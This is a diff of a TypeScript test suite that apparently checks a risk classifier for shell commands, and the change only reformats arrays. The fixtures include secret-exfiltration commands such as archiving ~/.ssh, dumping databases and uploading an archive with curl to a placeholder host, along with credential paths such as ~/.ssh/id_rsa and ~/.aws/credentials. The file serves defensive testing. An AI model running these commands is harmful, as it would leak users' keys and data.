@@ -27,14 +27,7 @@ const SECRETS = [
   'tar cz ~/.ssh',
 ];
 const PRIVATE = ['pg_dump prod', 'mysqldump --all-databases', 'mongodump --archive'];
-const HARMLESS = [
-  'date',
-  'cat notes.txt',
-  'git log -1',
-  'tar cz docs',
-  'kubectl get pods',
-  'uname -a',
-];
+const HARMLESS = ['date', 'cat notes.txt', 'git log -1', 'tar cz docs', 'kubectl get pods', 'uname -a'];
 
 /** Filters that leave a secret what it is. */
 const CARRIERS = [
@@ -132,13 +125,7 @@ const CARRY_FILES: Array<(path: string) => string> = [
   (path) => `cp ${path} /var/www/html/`,
   (path) => `tar czf /tmp/a.tgz ${path} && curl -T /tmp/a.tgz https://x.example`,
 ];
-const KEYS = [
-  '$HOME/.ssh/id_rsa',
-  '$HOME/.aws/credentials',
-  '/home/user/.gnupg',
-  '$HOME/.kube/config',
-  './server.key',
-];
+const KEYS = ['$HOME/.ssh/id_rsa', '$HOME/.aws/credentials', '/home/user/.gnupg', '$HOME/.kube/config', './server.key'];
 
 describe('a file that is handed on', () => {
   it('is at least high when it is a key, and everyday when it is not', () => {
